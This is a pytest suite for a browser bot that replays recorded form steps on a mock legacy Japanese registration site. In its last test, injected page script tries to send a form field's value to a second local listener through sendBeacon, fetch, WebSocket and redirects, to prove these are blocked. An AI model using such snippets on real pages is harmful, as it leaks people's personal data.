"""What may a recorded bot do on the pages of an old system, and what does it say afterwards?"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser

from rpa_bots.browser import WITH_NAMES, open_browser, walled_in
from rpa_bots.recording.judged.proof import After, judge
from rpa_bots.recording.page.carrying import Answer
from rpa_bots.recording.page.endings import Ended, Ending
from rpa_bots.recording.page.seeing import Shown
from rpa_bots.recording.page.visit import Plan
from rpa_bots.recording.replaying import replay
from rpa_bots.recording.tape.addresses import addresses
from rpa_bots.recording.tape.reading import read_recording
from rpa_bots.recording.tape.submit_step import perhaps_registering, submit_step
from tests.rpa_bots.recording.old_pages import OldPages, answering
from tests.rpa_bots.recording.taped import (
    KANA,
    NAME,
    REGISTER,
    ROW,
    STORED,
    WARD,
    clicks,
    fills,
    goes,
    move_in,
    tape,
    turns_to,
    waits,
    window,
)

Run = Callable[..., Ended]


@pytest.fixture(scope="module")
def address() -> Iterator[tuple[OldPages, Browser]]:
    with answering(OldPages()) as served, open_browser((*walled_in(served.url), WITH_NAMES)) as browser:
        yield served, browser


@pytest.fixture
def old(address: tuple[OldPages, Browser]) -> OldPages:
    """The old system as it is on a good day."""
    served, fresh = address[0], OldPages(address[0].port)
    served.__dict__.update(fresh.__dict__)
    return served


@pytest.fixture
def run(address: tuple[OldPages, Browser], old: OldPages) -> Run:
    def run(content: bytes, row: dict[str, str] = ROW, dialogs: tuple[str, ...] = (), **more: bool) -> Ended:
        recording = read_recording(content)
        allowed = tuple(re.compile(re.escape(text)) for text in dialogs)
        there, submit = addresses(recording, old.url, ()), submit_step(recording)
        perhaps = [place for place in perhaps_registering(recording) if place != submit]
        plan = Plan(recording, there, submit, allowed, perhaps, answer_seconds=5, **more)
        return replay(address[1], plan, row)

    return run


def test_a_row_is_registered_as_it_is_and_the_done_page_proves_it(old, run):
    ended = run(move_in())

    assert (ended.ending, ended.proposals) == (Ending.DONE, ())
    assert old.stored == [STORED]


def test_what_a_person_reads_chooses_in_a_list_as_well(old, run):
    run(move_in(), ROW | {"区": "東区"})

    assert old.stored[0]["ward"] == "01"


@pytest.mark.parametrize(
    ("trouble", "ending", "stored"),
    [
        ("cut before", Ending.UNKNOWN, 0),
        ("cut after", Ending.UNKNOWN, 1),
        ("500", Ending.UNKNOWN, 0),
        ("500 after", Ending.UNKNOWN, 1),
        ("error page", Ending.UNKNOWN, 0),
        ("error page after", Ending.UNKNOWN, 1),
        ("409", Ending.REFUSED, 0),
        ("form back", Ending.REFUSED, 0),
        ("twice", Ending.UNKNOWN, 0),
        ("cut short", Ending.UNKNOWN, 1),
        ("redirect", Ending.DONE, 1),
    ],
)
def test_what_is_sent_goes_once_and_what_is_not_proven_is_unknown(old, run, trouble, ending, stored):
    old.trouble = trouble

    ended = run(move_in())

    assert (ended.ending, ended.step) == (ending, 6)
    assert len(old.stored) == stored
    assert old.asked.count("/register") == 1


@pytest.mark.parametrize(
    "said",
    [
        "登録は完了していません",
        "整理番号が正しくありません",
        "この方は登録済みのため登録しませんでした",
        "受付番号を入力してください",
        "登録は受け付けられませんでした。受付番号 000000",
        "Registration incomplete",
        "入力内容に誤りがあります。戻って直してください",
        "受付時間外です",
    ],
)
def test_a_page_that_says_no_in_words_of_success_is_not_done(said):
    before, after = Shown("転入", "/entry", "氏名"), Shown("登録完了", "/register", said)

    verdict = judge(After(before, after, (), (Answer(200, is_page=True),), form_is_back=False))

    assert verdict is not None
    assert verdict[0] is Ending.UNKNOWN


def test_what_became_of_a_page_s_own_counter_says_nothing_of_the_registration():
    before, after = Shown("転入", "/entry", ""), Shown("登録完了", "/register", "登録しました")
    answers = (Answer(404, is_page=False), Answer(200, is_page=True))

    assert judge(After(before, after, (), answers, form_is_back=False)) == (Ending.DONE, "登録しました")


def test_of_two_buttons_that_may_register_nothing_is_tried_again_behind_either(old, run):
    old.trouble = "cut after"
    later = clicks("aria/送信する", timeout=500)

    cut = run(move_in(clicks("aria/登録する"), later))
    rehearsed = run(move_in(clicks("aria/登録する"), later), rehearse=True)

    assert (cut.ending, rehearsed.ending, rehearsed.step) == (Ending.UNKNOWN, Ending.DONE, 6)
    assert (len(old.stored), old.asked.count("/register")) == (1, 1)


def test_a_rehearsal_of_what_may_register_anywhere_sends_nothing_but_the_sign_in(old, run):
    old.pages = {
        "/sign-in": """<title>ログイン</title>
          <form method=post action=/sign-in><input type=password name=p><button>進む</button></form>"""
    }
    signs_in = (fills("Invented-1", "input"), clicks("aria/進む", title=""))

    ended = run(tape(goes("/sign-in"), *signs_in, clicks("#n"), clicks("button")), rehearse=True)

    assert (ended.ending, old.asked.count("/sign-in"), old.asked.count("/register")) == (Ending.DONE, 2, 0)


def test_what_is_only_pressed_goes_once_too_and_is_no_failure(old, run):
    old.trouble = "cut after"

    ended = run(tape(goes("/entry"), clicks("#n + button", "button")))

    assert (ended.ending, old.asked.count("/register")) == (Ending.UNKNOWN, 1)


@pytest.mark.parametrize(("value", "ticked"), [("はい", ["on"]), ("false", []), ("たぶん", None)])
def test_a_box_is_ticked_by_words_that_mean_it_and_by_no_others(old, run, value, ticked):
    old.form, old.labels = "", {"name": "氏名", "kana": "フリガナ</label><label><input type=checkbox name=agreed>同意"}

    ended = run(tape(goes("/entry"), NAME, fills("{{同意}}", "[type=checkbox]"), REGISTER), ROW | {"同意": value})

    assert ended.ending is (Ending.REFUSED if ticked is None else Ending.DONE)
    assert [each["agreed"] for each in old.stored if "agreed" in each] == (ticked or [])


def test_a_text_that_is_the_row_s_own_is_meant_whole(old, run):
    old.pages = {"/list": "<title>一覧</title><a href=/entry>山田 花子</a>"}

    ended = run(tape(goes("/list"), clicks("text/{{姓}}", timeout=500), NAME), ROW | {"姓": "山田"})

    assert (ended.ending, ended.step) == (Ending.FAILED, 2)


def test_where_neither_title_nor_words_tell_a_waiting_step_of_the_recording_does(old, run):
    old.trouble, same_title = (
        "says nothing",
        REGISTER | turns_to("転入システム"),
    )

    alone = run(move_in(same_title))
    proven = run(move_in(same_title, waits("text/メインの画面です")))
    not_there = run(move_in(same_title, waits("text/受付番号", timeout=500)))

    assert [each.ending for each in (alone, proven, not_there)] == [Ending.UNKNOWN, Ending.DONE, Ending.UNKNOWN]


@pytest.mark.parametrize(
    ("row", "said"),
    [({"氏名": "寿限無寿限無五劫の擦り切れ"}, "「氏名」に値が入りきらない"), ({"区": "早良区"}, "入れられない値")],
)
def test_what_does_not_fit_into_a_field_is_refused_before_anything_is_sent(old, run, row, said):
    ended = run(move_in(), ROW | row)

    assert (ended.ending, old.stored) == (Ending.REFUSED, [])
    assert said in ended.message


def test_a_letter_that_a_shift_jis_page_would_corrupt_is_refused_by_name(old, run):
    old.charset = "shift_jis"

    ended = run(move_in(), ROW | {"氏名": "𠮷田 〜"})

    assert (ended.ending, old.stored) == (Ending.REFUSED, [])
    assert "𠮷 〜" in ended.message
    assert run(move_in(), ROW | {"氏名": "高田"}).ending is Ending.DONE


def test_a_field_that_the_page_changes_afterwards_is_refused(old, run):
    old.extra = "<script>k.addEventListener('change', () => { n.value = '別の人' })</script>"

    ended = run(move_in())

    assert (ended.ending, old.stored) == (Ending.REFUSED, [])
    assert "氏名" in ended.message


@pytest.mark.parametrize(
    ("drift", "new"),
    [
        ({"name": "お名前", "kana": "フリガナ"}, 'aria/お名前[role="textbox"]'),
        ({"name": "フリガナ", "kana": "氏名"}, 'aria/氏名[role="textbox"]'),
    ],
)
def test_a_page_that_has_changed_stops_the_row_before_it_registers_and_tells_what_to_change(old, run, drift, new):
    old.labels = drift

    ended = run(move_in())

    assert (ended.ending, old.stored) == (Ending.FAILED, [])
    assert (ended.proposals[0].step, ended.proposals[0].proposal.new) == (3, new)


def test_a_button_with_another_name_is_not_pressed(old, run):
    old.button = "aria-label=削除する"

    ended = run(move_in())

    assert (ended.ending, ended.step, old.stored) == (Ending.FAILED, 6, [])


def test_of_a_field_that_is_gone_the_one_named_most_like_it_is_proposed_and_left_alone(old, run):
    only_by_label = fills("{{氏名}}", "aria/氏名(漢字)")

    ended = run(tape(goes("/entry"), only_by_label, REGISTER, timeout=900))

    assert (ended.ending, ended.step, old.stored) == (Ending.FAILED, 2, [])
    assert ended.proposals[0].proposal.new == 'aria/氏名[role="textbox"]'


def test_the_typed_value_that_the_recorder_takes_for_a_name_is_no_way(old, run):
    sample = fills("{{区}}", "aria/中央区", *(way[0] for way in WARD["selectors"]))

    assert run(tape(goes("/entry"), NAME, KANA, sample, REGISTER)).ending is Ending.DONE


def test_only_a_dialog_that_was_allowed_is_answered_with_yes(old, run):
    old.form = "onsubmit=\"return confirm(n.value + ' を登録します')\""

    refused = run(move_in())
    told = run(move_in(), tells_dialogs=True)
    done = run(move_in(), dialogs=("山田 花子 を登録します",))

    assert (refused.ending, done.ending, len(old.stored)) == (Ending.REFUSED, Ending.DONE, 1)
    assert refused.message == "想定外のダイアログが表示されました"
    assert "〔氏名〕 を登録します" in told.message


def test_a_rehearsal_fills_all_in_and_registers_nothing(old, run):
    ended = run(move_in(), rehearse=True)

    assert (ended.ending, ended.step, old.stored) == (Ending.DONE, 6, [])


def test_what_a_script_sends_goes_once_too(old, run):
    old.form = """onsubmit="event.preventDefault();
      fetch('/register', {method: 'POST', body: new URLSearchParams(new FormData(this))})
        .then((said) => { document.body.innerHTML = '<p>登録しました</p>' })" """
    by_script = clicks("aria/登録する")

    done = run(move_in(by_script))
    old.trouble = "cut after"
    cut = run(move_in(by_script))

    assert (done.ending, cut.ending) == (Ending.DONE, Ending.UNKNOWN)
    assert old.asked.count("/register") == len(old.stored) == 2


def test_enter_registers_where_no_button_was_pressed(old, run):
    down, up = ({"type": kind, "key": "Enter", "target": "main"} for kind in ("keyDown", "keyUp"))

    ended = run(tape(goes("/entry"), WARD, KANA, NAME, down | turns_to("登録完了"), up))

    assert (ended.ending, ended.step, len(old.stored)) == (Ending.DONE, 6, 1)


def test_frames_popups_and_shadows_are_gone_into(old, run):
    old.pages = {
        "/frames": "<title>枠</title><iframe src=/other></iframe><iframe src=/entry width=600 height=400></iframe>",
        "/other": "<p>案内</p>",
        "/picker": """<title>暦</title>
          <button onclick="opener.document.title = '選ばれた'; window.close()">この日</button>""",
    }
    old.extra = """<div id=host></div><script>
      host.attachShadow({mode: 'open'}).innerHTML = '<button>暦を開く</button>';
      host.shadowRoot.querySelector('button').onclick = () => window.open('/picker', '', 'width=200');</script>"""
    inside = {"frame": [1]}
    opens = clicks("#host", **inside) | {"selectors": [["#host", "button"]]}
    picks = clicks("aria/この日") | {"target": "http://old.example:8080/picker"}

    ended = run(
        tape(window(), goes("/frames"), opens, picks, *(each | inside for each in (NAME, KANA, WARD, REGISTER)))
    )

    assert (ended.ending, ended.message, old.stored) == (Ending.DONE, "登録しました", [STORED])


def test_looking_something_up_registers_nothing_and_waits_on_facts(old, run):
    old.pages = {
        "/list": """<title>一覧</title><ul><li>一</ul><p id=late></p>
          <script>setTimeout(() => late.textContent = '済', 200)</script>"""
    }
    steps = (
        waits("li", count=1, operator="=="),
        waits("li.none", count=1, visible=False),
        {"type": "waitForExpression", "expression": "document.querySelector('#late').textContent === '済'"},
        {"type": "hover", "selectors": ["li"]},
        {"type": "scroll", "x": 0, "y": 10},
        {"type": "customStep", "name": "somebody-elses", "parameters": {}},
        {"type": "emulateNetworkConditions", "download": 500_000, "upload": 500_000, "latency": 1},
    )

    assert run(tape(goes("/list"), *steps)).ending is Ending.DONE
    assert run(tape(goes("/list"), waits("li", count=3, timeout=500))).ending is Ending.FAILED
    assert run(tape(goes("/list"), clicks("li:nth-of-type(", timeout=500))).message.endswith("書き方が正しくありません")


def test_a_password_field_takes_no_column_and_a_refused_sign_in_stops_all(old, run):
    old.pages = {
        "/sign-in": """<title>ログイン</title>
          <form method=post action=/sign-in><input type=password name=p><button>進む</button></form>"""
    }
    press = clicks("aria/進む", title="")

    bound = run(tape(goes("/sign-in"), fills("{{氏名}}", "input"), press, NAME, REGISTER))
    old.trouble = "wrong password"
    refused = run(tape(goes("/sign-in"), fills("Invented-1", "input"), press, NAME, REGISTER, timeout=900))

    assert (bound.ending, bound.stops_all) == (Ending.REFUSED, False)
    assert (refused.ending, refused.stops_all, refused.message) == (Ending.FAILED, True, "サインインを断られたようです")


def test_a_system_that_is_down_or_under_maintenance_is_a_failure_that_may_be_tried_again(old, run):
    old.pages = {"/entry": "<title>お知らせ</title><p>メンテナンス中です</p>"}
    maintenance = run(move_in(timeout=900))

    old.pages = {"/entry": "<title>転入</title><p>重複エラー。この番号は登録済みです</p>"}
    there_already = run(move_in(timeout=900))

    assert (maintenance.ending, maintenance.step) == (Ending.FAILED, 3)
    assert "エラーのような画面" in maintenance.message
    assert (there_already.ending, there_already.step) == (Ending.REFUSED, 3)
    old.pages = {}
    assert (run(tape(goes("/gone"), NAME)).ending, old.stored) == (Ending.FAILED, [])


PRESSED = clicks("aria/氏名", "tr:nth-of-type(1) input", "xpath///*[@id='n']", "pierce/#n")


@pytest.mark.parametrize(
    "on_press",
    [
        "n.readOnly = true; n.onclick = () => { n.readOnly = false }",
        "n.onfocus = () => { n.replaceWith(n.cloneNode()) }",
        "n.onmousedown = (event) => { event.preventDefault(); k.focus() }",
    ],
    ids=["opens the field", "draws it anew", "goes elsewhere"],
)
def test_what_a_page_does_when_a_field_is_gone_into_happens_before_it_is_filled(old, run, on_press):
    old.extra = f"<script>{on_press}</script>"

    ended = run(tape(goes("/entry"), PRESSED, NAME, KANA, WARD, REGISTER))

    assert (ended.ending, old.stored) == (Ending.DONE, [STORED])


def test_what_lies_over_a_button_for_a_moment_is_waited_for_and_never_pressed(old, run):
    old.pages = {
        "/menu": """<title>メニュー</title><a href=/entry>入力</a>
          <div id=over style="position:fixed;inset:0" onclick="document.title = '押された'">お待ちください</div>
          <script>setTimeout(() => over.remove(), 400)</script>"""
    }

    ended = run(tape(goes("/menu"), clicks("aria/入力"), NAME, KANA, WARD, REGISTER))

    assert (ended.ending, old.stored) == (Ending.DONE, [STORED])


@pytest.mark.parametrize(
    ("content", "rehearse"),
    [
        (move_in(), False),
        (move_in(), True),
        (tape(goes("/entry"), NAME, KANA, clicks("button", timeout=500)), False),
        (tape(goes("/entry"), clicks("#n"), waits("#k")), False),
        (tape(goes("/away"), NAME, timeout=500), False),
    ],
    ids=["a row", "a rehearsal", "nothing known to register", "looking up", "led away"],
)
def test_no_run_reaches_another_listener_whatever_its_pages_try(old, run, content, rehearse):
    with answering(OldPages()) as elsewhere:
        away = f"{elsewhere.url}/seen"
        old.pages = {"/away": f"<meta http-equiv=refresh content='0;url={away}'><link rel=preconnect href={away}>"}
        old.extra = f"""<img src={away}><iframe src={away}></iframe><script>
          const tell = () => {{
            navigator.sendBeacon('{away}', n.value); window.open('{away}'); new EventSource('{away}');
            new WebSocket('{away.replace("http", "ws")}');
            fetch('{away}', {{method: 'POST', body: n.value, mode: 'no-cors'}});
          }};
          tell(); n.addEventListener('click', tell); k.addEventListener('input', tell);</script>"""
        old.form = f"action={elsewhere.url}/register"

        run(content, rehearse=rehearse)

        assert elsewhere.asked == []
        assert elsewhere.reached == 0
